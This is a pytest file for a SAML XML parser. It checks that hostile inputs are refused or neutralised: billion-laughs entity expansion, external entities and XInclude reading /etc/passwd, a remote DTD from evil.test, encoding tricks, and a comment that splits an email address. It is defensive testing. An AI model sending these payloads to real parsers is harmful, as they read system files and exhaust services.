"""XML that does something when it is read: each is refused before a parser could be moved by it."""

import pytest

from platforma.sso.saml.xml import MAX_BYTES, UnreadableXML, parse_xml, text_of

LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)).replace("&lol0;", "&lol;")
    + "]><a>&lol9;</a>"
)


@pytest.mark.parametrize(
    "document",
    [
        LAUGHS,
        '<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>',
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        '<!DOCTYPE a [<!ENTITY % x SYSTEM "https://evil.test/x.dtd"> %x;]><a/>',
        '<?xml version="1.0" encoding="UTF-7"?><a/>',
        '<?xml version="1.0" encoding="ISO-8859-1"?><a/>',
        "<a>&undefined;</a>",
        "<a xmlns='relative'/>",
        "<a xmlns:b='./b'><b:c/></a>",
        "<a>" * 100 + "</a>" * 100,
        "<a>" + "<b/>" * 30_000 + "</a>",
        "<a" + ' xmlns:a="urn:a"' + ">" + "x" * MAX_BYTES + "</a>",
        "<a b='1' b='2'/>",
        "<a/><b/>",
        "<a>\x00</a>",
    ],
    ids=lambda text: text[:40],
)
def test_xml_that_does_something_is_refused(document):
    with pytest.raises(UnreadableXML):
        parse_xml(document.encode())


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-32", "utf-7"])
def test_a_document_type_in_another_encoding_is_not_let_through(encoding):
    with pytest.raises(UnreadableXML):
        parse_xml('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'.encode(encoding))


def test_xinclude_is_an_element_like_any():
    document = b'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></a>'

    assert "root" not in "".join(parse_xml(document).itertext())


@pytest.mark.parametrize("split", ["<!-- -->", "<?pi x?>", "<!---->"])
def test_a_comment_or_an_instruction_does_not_end_a_text(split):
    root = parse_xml(f"<a>admin@acme.test{split}.evil.test</a>".encode())

    assert text_of(root) == "admin@acme.test.evil.test"
